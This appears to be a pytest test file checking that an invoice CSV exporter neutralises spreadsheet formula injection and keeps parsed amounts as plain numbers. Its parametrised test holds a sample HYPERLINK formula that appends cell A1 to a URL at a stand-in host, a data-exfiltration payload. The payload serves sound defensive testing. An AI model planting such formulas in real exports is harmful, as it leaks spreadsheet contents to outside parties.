"""The invoice CSV: invapi's text never becomes a spreadsheet formula; our numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from hostkey_tui.models.billing import Invoice
from hostkey_tui.models.common import Money
from hostkey_tui.services.invoice_export import invoices_csv


def invoice(**changes: object) -> Invoice:
    fields: dict[str, object] = {
        "id": 1,
        "number": "INV-1",
        "date": dt.date(2026, 11, 1),
        "due": dt.date(2026, 11, 15),
        "paid": None,
        "subtotal": Money.of("10.00"),
        "credit": Money.of("0.00"),
        "tax": Money.of("2.10"),
        "total": Money.of("12.10"),
        "status": "Unpaid",
        "payment_method": "card",
        "currency": "EUR",
    }
    fields.update(changes)
    return Invoice(**fields)  # type: ignore[arg-type]


def row(made: Invoice) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(invoices_csv([made]))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
@pytest.mark.parametrize("column", ["number", "payment_method", "status", "currency"])
def test_text_that_reads_as_a_formula_is_quoted(start: str, column: str) -> None:
    text = f'{start}HYPERLINK("http://x.example/?"&A1,"pay")'
    field = {"number": "invoice", "payment_method": "method"}.get(column, column)
    assert row(invoice(**{column: text}))[field] == "'" + text


def test_an_unparsed_amount_is_kept_as_written_but_never_a_formula() -> None:
    made = row(invoice(total=Money.of("=1+2"), tax=Money.of("2.5.00")))
    assert made["total after credit"] == "'=1+2"
    assert made["tax"] == "2.5.00"  # malformed, not dangerous: as invapi wrote it


def test_amounts_we_parsed_stay_numbers_negative_ones_too() -> None:
    made = row(invoice(credit=Money.of("-5.00"), total=Money.of(" 7.10 "), subtotal=Money.of(12)))
    assert made["credit used"] == "-5.00" and Decimal(made["credit used"]) == Decimal("-5")
    assert made["total after credit"] == "7.10" and made["subtotal"] == "12"


def test_plain_text_is_left_alone() -> None:
    made = row(invoice(number="2026-0042", payment_method="Bank transfer"))
    assert made["invoice"] == "2026-0042" and made["method"] == "Bank transfer"


def test_an_invoice_whose_items_could_not_be_read_says_so() -> None:
    made = next(csv.DictReader(io.StringIO(invoices_csv([invoice()], unread={1: "Not found"}))))
    assert made["items"] == "not read: Not found"
    assert made["invoiced"] == "12.10" and made["balance due"] == "12.10"
